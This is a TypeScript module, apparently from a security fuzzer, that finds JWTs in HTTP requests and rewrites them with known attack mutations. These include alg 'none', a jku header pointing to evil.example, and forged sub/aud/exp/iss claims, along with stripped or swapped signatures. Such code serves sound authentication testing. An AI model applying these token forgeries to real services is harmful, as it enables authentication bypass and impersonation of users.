import type { WireRequest } from './request.ts'

const TOKEN = /eyJ[\w-]+(?:\.[\w-]*){2}/g
const ALGORITHMS = ['none', 'None', 'HS256', 'RS512', 'ES256', 'nonsense', '']

// What is deeper than this was made deep by another change, and is too deep to be walked through.
const MOST_OPENINGS = 1000

export function parsedJson(body: Buffer): object | undefined {
  if ((String(body).match(/[[{]/g)?.length ?? 0) > MOST_OPENINGS) return undefined
  try {
    const parsed: unknown = JSON.parse(body.toString())
    return typeof parsed === 'object' && parsed !== null ? parsed : undefined
  } catch {
    return undefined
  }
}

export function altered(token: string, part: string, value: string, claim: unknown): string {
  const [header = '', payload = '', signature = ''] = token.split('.')
  const changed = (of: string, change: object) =>
    Buffer.from(JSON.stringify({ ...(parsedJson(Buffer.from(of, 'base64url')) ?? {}), ...change })).toString(
      'base64url',
    )
  if (part === 'alg')
    return `${changed(header, { alg: ALGORITHMS[value.length % ALGORITHMS.length] })}.${payload}.${signature}`
  if (part === 'kid')
    return `${changed(header, { kid: claim, jku: 'http://evil.example/keys', crit: ['x'] })}.${payload}.${signature}`
  if (part === 'claim')
    return `${header}.${changed(payload, { sub: claim, aud: claim, exp: claim, iss: value })}.${signature}`
  if (part === 'signature')
    return `${header}.${payload}.${Buffer.from(value, 'latin1').toString('base64url')}`
  if (part === 'empty') return `${header}..`
  if (part === 'parts') return `${token}.${signature}.${signature}`
  return `${Buffer.from(value, 'latin1').toString('base64url')}.${payload}.${signature}`
}

export function inJwts(request: WireRequest, change: (token: string) => string): WireRequest {
  const body = request.body.toString('latin1').replace(TOKEN, change)
  return {
    ...request,
    target: request.target.replace(TOKEN, change),
    headers: request.headers.map(([name, value]) => [name, value.replace(TOKEN, change)] as const),
    body: Buffer.from(body, 'latin1'),
  }
}
